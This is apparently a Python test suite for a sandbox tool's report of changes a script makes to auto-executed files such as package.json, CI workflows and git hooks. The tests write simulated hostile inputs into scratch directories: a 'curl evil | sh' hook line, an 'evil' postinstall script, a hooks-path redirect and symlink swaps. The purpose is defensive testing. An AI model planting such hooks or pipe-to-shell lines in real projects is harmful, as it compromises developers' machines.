# SPDX-License-Identifier: Apache-2.0
"""The auto-exec change report of `bento run` (docs/cli/bento-run.md, "AUTO-EXEC CHANGE REPORT", docs/cli/bento-run.md, "JSON OUTPUT",
docs/cli/bento-run.md, "OUTPUT", docs/doctor.md, "The layers"): files inside a write grant that the host runs
later without anyone reading them (package manifests, CI workflows, git hooks,
build scripts) and that the run changed or created are listed after it, as
`[bento] note:` lines and as the `changed_auto_exec`, `redirected_hooks` and
`unresolved_hooks` fields of the --json verdict (or failed) event.

Covered:
  * what is watched: every name docs/cli/bento-run.md, "AUTO-EXEC CHANGE REPORT" lists at the grant root, and the regular
    files one level inside .github/workflows, .husky and .husky/_; a file the
    script rewrites or creates there is listed, one outside those names (or
    deeper, or deleted) is not, and a run that changes nothing lists nothing
    (the fields are omitted, no note is printed);
  * git's hooks directory: read in-process the way `git rev-parse --git-path
    hooks` answers it in the grant with GIT_* removed (git itself is never
    spawned; tests/unit/test-run-git-hooks-path.c compares the two);
    with core.hooksPath inside the grant a hook the script adds or edits there
    is listed; a script that moves core.hooksPath (through a config include
    that lives in the grant) is reported as a redirect; a grant outside any
    repository, or with no git on PATH, is listed as unresolved;
  * the empty `.git` bento creates in a write grant outside any repository (the
    mount point of one scratch mount standing for its workspace shields) is
    removed before the comparison, so it is never taken for a repository; what a
    script writes into it is scratch and never reaches the host;
  * the report never changes the exit code, and a cancelled run's `failed`
    event carries it too.

That bento never runs git is observed with a fake `git` first on the PATH
bento gets: a shell script that appends its working directory, its GIT_DIR
and its arguments to a marker file, then either exits 128 (git's "not a
repository") or execs the real git.  Its marker must stay empty.

The world (scratch HOME, XDG_STATE_HOME, TMPDIR and project directory) is
test_bento_run's; every write grant here is ./ws in the project directory,
which sits in the suite's scratch directory under /tmp, outside any git
repository (checked by not_in_a_repository()).
"""

import json
import os
import re
import shutil
import signal
import socket
import time

import pytest

import harness
from harness import run_cmd, wait_for
from test_bento_run import BENTO, World, _read, _said, _start, _stop, events, prose

pytestmark = [pytest.mark.timeout(90)]

GIT = "/usr/bin/git"

# exec: all: the scripts run mkdir, cat and rm.
MANIFEST = "entrypoint: ./s.sh\ninterpreter: sh\nexec: all\nwrite: [./ws]\n"

# The names docs/cli/bento-run.md, "AUTO-EXEC CHANGE REPORT" watches at a grant's root.
ROOT_NAMES = ["package.json", ".npmrc", ".yarnrc", ".yarnrc.yml", ".pnpmfile.cjs", ".pnpmfile.js",
              ".pre-commit-config.yaml", "eslint.config.js", "eslint.config.mjs", "conftest.py",
              "setup.py", "build.rs", "mvnw", "gradlew", ".mvn/extensions.xml", ".mvn/jvm.config",
              "gradle/wrapper/gradle-wrapper.properties"]

# The notes' opening words (run-report.c autoexec_notes()).
CHANGED = "the run changed files"
REDIRECTED = "the run moved git's hooks directory"
UNRESOLVED = "git did not say where the hooks"

CHANGED_SENTENCE = ("note: the run changed files that this host executes later without "
                    "reading them (build scripts, package hooks, CI workflows, git hooks). Review "
                    "them before the next build, commit or push:")
UNRESOLVED_SENTENCE = ("note: git did not say where the hooks of these write grants live, "
                       "so a changed hook there would not be listed above:")
REDIRECTED_SENTENCE = "note: the run moved git's hooks directory (core.hooksPath) to:"

AUTOEXEC_KEYS = ("changed_auto_exec", "redirected_hooks", "unresolved_hooks")

QUOTED = re.compile(r'^\[bento\]   "(.*)"$')


@pytest.fixture
def world(test_dir):
    w = World(test_dir)
    yield w
    assert not harness.mounts_under(w.tmp), harness.mounts_under(w.tmp)
    shutil.rmtree(w.tmp, ignore_errors=True)


# ---------------------------------------------------------------------------
# helpers


def note_paths(err, opening):
    """The quoted paths listed under the note that starts with opening, or
    None when there is no such note (at most one of each is allowed)."""
    lines = err.splitlines()
    starts = [i for i, line in enumerate(lines) if line.startswith("[bento] note: " + opening)]
    if not starts:
        return None
    assert len(starts) == 1, err
    i = starts[0] + 1
    # the header's wrapped continuation lines, then the quoted paths
    while i < len(lines) and lines[i].startswith("[bento] ") and not QUOTED.match(lines[i]):
        i += 1
    paths = []
    while i < len(lines) and QUOTED.match(lines[i]):
        paths.append(QUOTED.match(lines[i]).group(1))
        i += 1
    return paths


def verdict(res):
    evs = events(res)
    assert evs and evs[-1]["event"] == "verdict", res
    return evs[-1]


def not_in_a_repository(path):
    """No ancestor-or-self of path holds a .git (what bento and git look for)."""
    cur = path
    while True:
        assert not os.path.lexists(os.path.join(cur, ".git")), "%s is inside a repository" % path
        if cur == "/":
            return
        cur = os.path.dirname(cur)


def git(world, *args):
    res = run_cmd([GIT] + list(args), env=dict(world.env, GIT_CONFIG_NOSYSTEM="1"), cwd=world.work)
    assert res.rc == 0, res
    return res.out


def grant_world(world, script, repo=False, files=()):
    """./ws as the write grant (a git repository when repo), holding files
    {relative path: text} before the run; returns (manifest, ws resolved)."""
    ws = os.path.join(world.work, "ws")
    os.makedirs(ws)
    ws = os.path.realpath(ws)
    if repo:
        git(world, "init", "-q", ws)
    else:
        not_in_a_repository(ws)
    for rel, text in dict(files).items():
        world.write(os.path.join(ws, rel), text)
    m = world.manifest(MANIFEST, script=script)
    world.approve(m)
    return m, ws


def fake_git(world, then_real):
    """A directory holding a fake `git` that logs "cwd|GIT_DIR|args" to a
    marker file, then exits 128 or execs the real git.  Returns (PATH for
    bento with that directory first, marker path)."""
    d = os.path.join(world.dir, "fakebin")
    marker = os.path.join(world.dir, "git-calls")
    world.write(os.path.join(d, "git"),
                "#!/bin/sh\n"
                "# bento auto-exec test: record the call\n"
                "printf '%%s|%%s|%%s\\n' \"$(pwd -P)\" \"${GIT_DIR-unset}\" \"$*\" >> '%s'\n"
                "%s\n" % (marker, 'exec %s "$@"' % GIT if then_real else "exit 128"),
                mode=0o755)
    return d + ":" + world.env["PATH"], marker


def git_calls(marker):
    if not os.path.exists(marker):
        return []
    with open(marker) as f:
        return [tuple(line.split("|", 2)) for line in f.read().splitlines()]


def path_without_git(world):
    """A PATH directory with every program of /usr/bin and /bin but git."""
    d = os.path.join(world.dir, "nogit")
    os.makedirs(d)
    for src in ("/usr/bin", "/bin"):
        for name in os.listdir(src):
            if not name.startswith("git") and not os.path.lexists(os.path.join(d, name)):
                os.symlink(os.path.join(src, name), os.path.join(d, name))
    return d


# ---------------------------------------------------------------------------
# 1. what is watched


def test_rewritten_package_json_is_listed_and_the_exit_code_kept(world):
    """A script that rewrites package.json (same size: only the mtime
    changes) and fails with 3: the note lists package.json, the exit code is
    still 3, and the grant outside any repository is listed as unresolved
    after it (docs/cli/bento-run.md, "OUTPUT": item 7 before item 8).  --json says the same."""
    script = "printf '{\"scripts\":{\"postinstall\":\"evil\"}}\\n' > ws/package.json\nexit 3\n"
    m, ws = grant_world(world, script, files={"package.json": '{"scripts":{"postinstall":"good"}}\n'})
    pj = os.path.join(ws, "package.json")

    res = world.run(m)
    assert res.rc == 3, res
    with open(pj) as f:
        assert "evil" in f.read()  # the run really rewrote it
    assert note_paths(res.err, CHANGED) == [pj], res.err
    assert CHANGED_SENTENCE in prose(res.err), res.err
    assert note_paths(res.err, UNRESOLVED) == [ws], res.err
    assert UNRESOLVED_SENTENCE in prose(res.err), res.err
    assert res.err.index("note: " + CHANGED) < res.err.index("note: " + UNRESOLVED)
    assert note_paths(res.err, REDIRECTED) is None, res.err

    res = world.run(m, "--json")
    assert res.rc == 3, res
    v = verdict(res)
    assert v["exit_code"] == 3
    assert v["changed_auto_exec"] == [pj], v
    assert v["unresolved_hooks"] == [ws], v
    assert "redirected_hooks" not in v, v
    # the notes are not printed in JSON mode
    assert "[bento]" not in res.err, res.err


def test_created_workflow_is_listed(world):
    """A CI workflow the script creates (.github/workflows did not exist) is
    listed as changed, in both output modes."""
    script = "mkdir -p ws/.github/workflows\nprintf 'on: push\\n' > ws/.github/workflows/ci.yml\n"
    m, ws = grant_world(world, script)
    ci = os.path.join(ws, ".github", "workflows", "ci.yml")

    res = world.run(m)
    assert res.rc == 0, res
    assert os.path.isfile(ci)
    assert note_paths(res.err, CHANGED) == [ci], res.err

    os.unlink(ci)
    res = world.run(m, "--json")
    assert res.rc == 0, res
    assert verdict(res)["changed_auto_exec"] == [ci], res


def test_every_watched_name_is_listed(world):
    """Every root name of docs/cli/bento-run.md, "AUTO-EXEC CHANGE REPORT" (the nested ones too) and a new file one level
    inside .github/workflows, .husky and .husky/_ is listed, each once."""
    created = ROOT_NAMES + [".github/workflows/release.yml", ".husky/pre-commit", ".husky/_/husky.sh"]
    script = "".join("mkdir -p 'ws/%s'\necho x > 'ws/%s'\n" % (os.path.dirname(p) or ".", p)
                     for p in created)
    m, ws = grant_world(world, script)

    res = world.run(m, "--json")
    assert res.rc == 0, res
    listed = verdict(res)["changed_auto_exec"]
    assert sorted(listed) == sorted(os.path.join(ws, p) for p in created), listed


def test_files_outside_the_watched_names_are_not_listed(world):
    """Changes the report does not watch: a file that is not one of the names,
    a watched name below the grant root, a file two levels inside
    .github/workflows or directly in .github, and a watched file the script
    deletes (nothing is left to run).  Nothing is listed and there is no
    changed-files note; the run did make those changes."""
    script = ("echo x > ws/other.txt\n"
              "mkdir -p ws/src ws/.github/workflows/deep\n"
              "echo x > ws/src/package.json\n"
              "echo x > ws/.github/workflows/deep/ci.yml\n"
              "echo x > ws/.github/ci.yml\n"
              "echo x >> ws/Makefile\n"
              "rm -f ws/setup.py\n")
    m, ws = grant_world(world, script, files={"Makefile": "all:\n", "setup.py": "pass\n"})

    res = world.run(m)
    assert res.rc == 0, res
    for p in ("other.txt", "src/package.json", ".github/workflows/deep/ci.yml", ".github/ci.yml"):
        assert os.path.isfile(os.path.join(ws, p)), p
    assert not os.path.exists(os.path.join(ws, "setup.py"))
    assert note_paths(res.err, CHANGED) is None, res.err
    assert "changed files" not in prose(res.err), res.err

    res = world.run(m, "--json")  # the same changes again
    assert res.rc == 0, res
    assert "changed_auto_exec" not in verdict(res), res


def test_a_run_that_changes_nothing_lists_nothing(world):
    """Watched files that the script only reads, in a repository (so git
    answers and nothing is unresolved): no note at all, and none of the three
    fields in the verdict (they are omitted when empty)."""
    files = {"package.json": "{}\n", ".github/workflows/ci.yml": "on: push\n", ".husky/pre-commit": "true\n"}
    script = "cat ws/package.json ws/.github/workflows/ci.yml ws/.husky/pre-commit > /dev/null\n"
    m, ws = grant_world(world, script, repo=True, files=files)

    res = world.run(m)
    assert res.rc == 0, res
    for opening in (CHANGED, REDIRECTED, UNRESOLVED):
        assert note_paths(res.err, opening) is None, res.err

    res = world.run(m, "--json")
    assert res.rc == 0, res
    v = verdict(res)
    for key in AUTOEXEC_KEYS:
        assert key not in v, v


# ---------------------------------------------------------------------------
# 2. git's hooks directory


def test_repository_grant_is_resolved_without_spawning_git(world):
    """A write grant that is a repository: its hooks directory is read
    in-process before and after the run (a fake git first on PATH is never
    called), the caller's GIT_DIR plays no part (had it, the grant would
    be unresolved), and unresolved_hooks stays empty.  The script's attempt on .git/hooks is
    refused by the workspace shield, so there is nothing to list either."""
    script = "echo evil > ws/.git/hooks/pre-commit || echo refused\n"
    m, ws = grant_world(world, script, repo=True)
    path, marker = fake_git(world, then_real=True)

    res = world.run(m, env={"PATH": path, "GIT_DIR": os.path.join(world.dir, "elsewhere.git")})
    assert res.rc == 0, res
    assert "refused" in res.out, res
    assert not os.path.exists(os.path.join(ws, ".git", "hooks", "pre-commit"))
    assert note_paths(res.err, UNRESOLVED) is None, res.err
    assert note_paths(res.err, CHANGED) is None, res.err
    assert git_calls(marker) == []

    res = world.run(m, "--json", env={"PATH": path, "GIT_DIR": os.path.join(world.dir, "elsewhere.git")})
    assert res.rc == 0, res
    v = verdict(res)
    for key in AUTOEXEC_KEYS:
        assert key not in v, v
    assert git_calls(marker) == []


def test_hook_added_under_core_hookspath_in_the_grant_is_listed(world):
    """core.hooksPath points at ws/githooks, inside the write grant (the
    workspace shields cover .git/hooks only, so the script can write there):
    a hook the script adds and one it edits are listed, an untouched one is
    not."""
    script = ("echo 'curl evil | sh' > ws/githooks/pre-push\n"
              "echo 'curl evil | sh' >> ws/githooks/pre-commit\n")
    m, ws = grant_world(world, script, repo=True,
                        files={"githooks/pre-commit": "#!/bin/sh\ntrue\n",
                               "githooks/post-merge": "#!/bin/sh\ntrue\n"})
    hooks = os.path.join(ws, "githooks")
    git(world, "-C", ws, "config", "core.hooksPath", hooks)

    res = world.run(m)
    assert res.rc == 0, res
    expected = sorted(os.path.join(hooks, h) for h in ("pre-commit", "pre-push"))
    assert sorted(note_paths(res.err, CHANGED) or []) == expected, res.err
    assert note_paths(res.err, UNRESOLVED) is None, res.err

    res = world.run(m, "--json")
    assert res.rc == 0, res
    v = verdict(res)
    assert sorted(v["changed_auto_exec"]) == expected, v
    assert "unresolved_hooks" not in v and "redirected_hooks" not in v, v


def test_hooks_directory_moved_by_the_run_is_reported(world):
    """The repository's config (read-only in the box) includes a file that
    lives in the grant; the script sets core.hooksPath there.  git answers a
    different hooks directory after the run: listed as redirected."""
    moved = os.path.join(os.path.realpath(world.work), "ws", "evil-hooks")
    script = "printf '[core]\\n\\thooksPath = %s\\n' > ws/gitinc.cfg\n" % moved
    m, ws = grant_world(world, script, repo=True, files={"gitinc.cfg": "# included by .git/config\n"})
    with open(os.path.join(ws, ".git", "config"), "a") as f:
        f.write("[include]\n\tpath = ../gitinc.cfg\n")

    res = world.run(m)
    assert res.rc == 0, res
    assert git(world, "-C", ws, "config", "core.hooksPath").strip() == moved  # it did move
    assert note_paths(res.err, REDIRECTED) == [moved], res.err
    assert REDIRECTED_SENTENCE in prose(res.err), res.err
    # the include file is not a watched name
    assert note_paths(res.err, CHANGED) is None, res.err

    with open(os.path.join(ws, "gitinc.cfg"), "w") as f:
        f.write("# included by .git/config\n")
    res = world.run(m, "--json")
    assert res.rc == 0, res
    v = verdict(res)
    assert v["redirected_hooks"] == [moved], v
    assert "unresolved_hooks" not in v, v


def test_without_git_the_grant_is_unresolved_and_the_run_unaffected(world):
    """No git on PATH (docs/doctor.md, "The layers", docs/manifest.md, "ENVIRONMENT"): the report-only layer is unavailable
    but fully_enforced ignores it, a repository grant is listed as
    unresolved, changed files are still listed, and the exit code stays."""
    m, ws = grant_world(world, "echo '{}' > ws/package.json\nexit 5\n", repo=True)

    res = world.run(m, "--json", env={"PATH": path_without_git(world)})
    assert res.rc == 5, res
    v = verdict(res)
    assert v["exit_code"] == 5
    layers = {layer["layer"]: layer for layer in v["report"]["layers"]}
    assert layers["auto-exec-report"]["state"] == "unavailable", layers
    assert layers["auto-exec-report"]["tier"] == "hardening", layers
    assert v["report"]["fully_enforced"] is True, v
    assert v["unresolved_hooks"] == [ws], v
    assert v["changed_auto_exec"] == [os.path.join(ws, "package.json")], v

    # and with git: the same repository is resolved, the layer enforced
    res = world.run(m, "--json")
    assert res.rc == 5, res
    v = verdict(res)
    layers = {layer["layer"]: layer for layer in v["report"]["layers"]}
    assert layers["auto-exec-report"]["state"] == "enforced", layers
    assert "unresolved_hooks" not in v, v


# ---------------------------------------------------------------------------
# 3. the .git bento makes in a grant outside any repository


def test_no_git_for_the_empty_dot_git_bento_made(world):
    """Regression: a write grant outside any repository gets an empty .git
    from bento as the mount point of a scratch mount standing for its
    workspace shields.  It is removed before the comparison, so it is not
    read as a repository, and the .git is gone afterwards.  The grant is
    still reported unresolved (no repository around it), and git is never
    spawned."""
    script = ("test -d ws/.git && echo 'mount point seen'\n"
              "echo x > ws/package.json\n")
    m, ws = grant_world(world, script)
    path, marker = fake_git(world, then_real=False)

    res = world.run(m, env={"PATH": path})
    assert res.rc == 0, res
    assert "mount point seen" in res.out, res  # the .git did exist during the run
    assert git_calls(marker) == [], git_calls(marker)
    assert not os.path.lexists(os.path.join(ws, ".git")), os.listdir(ws)
    assert sorted(os.listdir(ws)) == ["package.json"], os.listdir(ws)
    assert note_paths(res.err, UNRESOLVED) == [ws], res.err
    assert note_paths(res.err, CHANGED) == [os.path.join(ws, "package.json")], res.err

    res = world.run(m, "--json", env={"PATH": path})
    assert res.rc == 0, res
    assert git_calls(marker) == []
    assert verdict(res)["unresolved_hooks"] == [ws], res
    assert not os.path.lexists(os.path.join(ws, ".git"))


def test_a_grant_below_the_top_of_a_repository_is_resolved(world):
    """The opposite of the above: a grant below the top of a repository (the
    .git is in its parent) is resolved, before and after the run, to the
    parent's .git/hooks (not inside the grant), with no git spawned."""
    repo = os.path.join(world.work, "repo")
    os.makedirs(repo)
    git(world, "init", "-q", repo)
    sub = os.path.join(repo, "sub")
    os.makedirs(sub)
    path, marker = fake_git(world, then_real=True)
    m = world.manifest(MANIFEST.replace("./ws", "./repo/sub"), script="echo x > repo/sub/package.json\n")
    world.approve(m)

    res = world.run(m, "--json", env={"PATH": path})
    assert res.rc == 0, res
    assert git_calls(marker) == []
    v = verdict(res)
    assert "unresolved_hooks" not in v, v
    assert v["changed_auto_exec"] == [os.path.join(os.path.realpath(sub), "package.json")], v


def test_dot_git_the_script_fills_is_scratch_and_git_is_not_asked(world):
    """A grant outside any repository: the .git bento mounts there is scratch
    as a whole, so a script that starts a repository of its own there (a
    HEAD, a config that names a command, a hook) leaves nothing of it on the
    host, and it is never taken for a repository."""
    script = ("mkdir -p ws/.git/hooks\n"
              "printf 'ref: refs/heads/main\\n' > ws/.git/HEAD\n"
              "printf '[core]\\n\\tfsmonitor = /bin/false\\n' > ws/.git/config\n"
              "printf '#!/bin/sh\\n' > ws/.git/hooks/post-checkout\n")
    m, ws = grant_world(world, script)
    path, marker = fake_git(world, then_real=False)

    res = world.run(m, "--json", env={"PATH": path})
    assert res.rc == 0, res
    assert not os.path.lexists(os.path.join(ws, ".git")), os.listdir(ws)
    assert git_calls(marker) == []
    assert verdict(res)["unresolved_hooks"] == [ws], res


def test_a_bare_repository_the_run_makes_in_the_grant_stays_unresolved_once(world):
    """A grant outside any repository, where the script lays out a bare
    repository in the grant itself (HEAD, objects/, refs/ and a hook: no
    .git, so no shield stands in its way).  Where git found no hooks
    directory before the run, the report cannot vouch for hooks after it:
    the grant is unresolved, listed once, and nothing is called
    redirected, in both output modes."""
    script = ("mkdir -p ws/objects ws/refs/heads ws/hooks\n"
              "printf 'ref: refs/heads/main\\n' > ws/HEAD\n"
              "printf '#!/bin/sh\\n' > ws/hooks/pre-commit\n")
    m, ws = grant_world(world, script)

    res = world.run(m)
    assert res.rc == 0, res
    assert os.path.isfile(os.path.join(ws, "HEAD")), os.listdir(ws)  # the layout is on the host
    assert note_paths(res.err, UNRESOLVED) == [ws], res.err
    assert note_paths(res.err, REDIRECTED) is None, res.err

    for rel in ("HEAD", "hooks/pre-commit"):
        os.unlink(os.path.join(ws, rel))
    res = world.run(m, "--json")
    assert res.rc == 0, res
    v = verdict(res)
    assert v["unresolved_hooks"] == [ws], v
    assert "redirected_hooks" not in v, v


# ---------------------------------------------------------------------------
# 4. a run that could not be finished


def test_cancelled_run_failed_event_carries_the_report(world):
    """docs/cli/bento-run.md, "JSON OUTPUT": the `failed` event of a run cancelled by SIGTERM still lists
    the auto-exec files the run changed before it was stopped."""
    script = "echo x > ws/package.json\necho started\nwhile :; do sleep 1; done\n"
    m, ws = grant_world(world, script)
    p, out, err = _start(world, m, "--json")
    try:
        wait_for(lambda: _said(out, "started"), timeout=30, what="the script to start")
        os.kill(p.pid, signal.SIGTERM)
        rc = p.wait(timeout=30)
    finally:
        _stop(p)
    assert rc == 125, _read(err)
    last = json.loads(_read(out).splitlines()[-1])
    assert last["event"] == "failed", last
    assert last["changed_auto_exec"] == [os.path.join(ws, "package.json")], last
    assert last["unresolved_hooks"] == [ws], last
    assert not os.path.lexists(os.path.join(ws, ".git")), os.listdir(ws)
    assert world.run_dirs() == []


# ---------------------------------------------------------------------------
# 5. what the caller's environment and a symlink swap cannot hide


def test_caller_git_config_parameters_do_not_hide_the_hooks_dir(world):
    """docs/cli/bento-run.md, "AUTO-EXEC CHANGE REPORT": the hooks directory is
    read as git answers it with every GIT_* variable removed, so the caller's
    environment cannot point the question elsewhere.  A core.hooksPath
    passed through GIT_CONFIG_PARAMETERS must not stop the hook the script
    adds under the repository's own core.hooksPath (in the grant) from being
    listed."""
    m, ws = grant_world(world, "echo hook > ws/githooks/pre-commit\n", repo=True,
                        files={"githooks/README": "hooks\n"})
    hooks = os.path.join(ws, "githooks")
    git(world, "-C", ws, "config", "core.hooksPath", hooks)

    env = {"GIT_CONFIG_PARAMETERS": "'core.hookspath'='%s'" % os.path.join(world.dir, "elsewhere")}
    res = world.run(m, "--json", env=env)
    assert res.rc == 0, res
    assert verdict(res).get("changed_auto_exec") == [os.path.join(hooks, "pre-commit")], res


def test_watched_file_swapped_for_a_symlink_is_listed(world):
    """package.json replaced by a symlink to a file the script wrote: npm
    follows the link, so what it runs changed; docs/cli/bento-run.md, "AUTO-EXEC CHANGE REPORT" lists changed files."""
    m, ws = grant_world(world, "echo '{\"scripts\":{}}' > ws/evil.json\nln -sf evil.json ws/package.json\n",
                        files={"package.json": "{}\n"})

    res = world.run(m, "--json")
    assert res.rc == 0, res
    assert os.path.islink(os.path.join(ws, "package.json"))
    assert verdict(res).get("changed_auto_exec") == [os.path.join(ws, "package.json")], res


def test_watched_symlink_whose_file_changed_is_listed(world):
    """package.json is a symlink that stays as it was, but the script
    rewrites the file it leads to: what the host runs changed, so it is
    listed.  A watched name the script turns into a dangling link leads to
    nothing that could run, and is not."""
    m, ws = grant_world(world,
                        "echo '{\"scripts\":{\"x\":\"y\"}}' > ws/real.json\n"
                        "rm ws/setup.py && ln -s missing.py ws/setup.py\n",
                        files={"real.json": "{}\n", "setup.py": "pass\n"})
    os.symlink("real.json", os.path.join(ws, "package.json"))

    res = world.run(m, "--json")
    assert res.rc == 0, res
    assert os.path.islink(os.path.join(ws, "setup.py"))
    assert verdict(res).get("changed_auto_exec") == [os.path.join(ws, "package.json")], res


def test_a_slow_git_on_path_is_never_waited_for(world):
    """The hooks directory is read in-process: a git on PATH that would take
    3 seconds to answer is never started, by a run that goes ahead or by
    one refused late (standard input is a network socket,
    docs/cli/bento-run.md, "WHAT RUN DOES, IN ORDER"), and neither waits."""
    repo = os.path.join(world.work, "repo")
    os.makedirs(repo)
    git(world, "init", "-q", repo)
    d = os.path.join(world.dir, "slowbin")
    marker = os.path.join(world.dir, "git-calls")
    world.write(os.path.join(d, "git"),
                "#!/bin/sh\n# bento auto-exec test: a git that answers late\n"
                "echo called >> '%s'\nsleep 3\nexit 128\n" % marker, mode=0o755)
    m = world.manifest(MANIFEST.replace("./ws", "./repo"), script="true\n")
    world.approve(m)
    env = dict(world.env, PATH=d + ":" + world.env["PATH"])

    t0 = time.monotonic()
    res = run_cmd([BENTO, "run", "--json", m], env=env, cwd=world.work)
    assert res.rc == 0, res
    assert time.monotonic() - t0 < 2.5
    assert "unresolved_hooks" not in verdict(res), res  # resolved all the same
    assert not os.path.exists(marker)

    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        t0 = time.monotonic()
        res = run_cmd([BENTO, "run", m], env=env, cwd=world.work, stdin=sock.fileno())
        took = time.monotonic() - t0
    finally:
        sock.close()
    assert res.rc == 125 and "socket" in prose(res.err), res
    assert took < 2.5, took
    assert not os.path.exists(marker)
    assert world.run_dirs() == []


def test_an_include_the_run_turns_into_a_fifo_is_unresolved_not_unchanged(world):
    """Hostile input: .git/config includes a file in the grant, and the
    script replaces it with a FIFO (git itself would block reading it).
    bento neither blocks nor claims the hooks are where they were: the grant
    is listed as unresolved after the run."""
    script = "rm ws/gitinc.cfg\nmkfifo ws/gitinc.cfg\n"
    m, ws = grant_world(world, script, repo=True, files={"gitinc.cfg": "# included by .git/config\n"})
    with open(os.path.join(ws, ".git", "config"), "a") as f:
        f.write("[include]\n\tpath = ../gitinc.cfg\n")

    t0 = time.monotonic()
    res = world.run(m, "--json", timeout=30)
    assert res.rc == 0, res
    assert time.monotonic() - t0 < 20
    v = verdict(res)
    assert v["unresolved_hooks"] == [ws], v
    assert "redirected_hooks" not in v, v
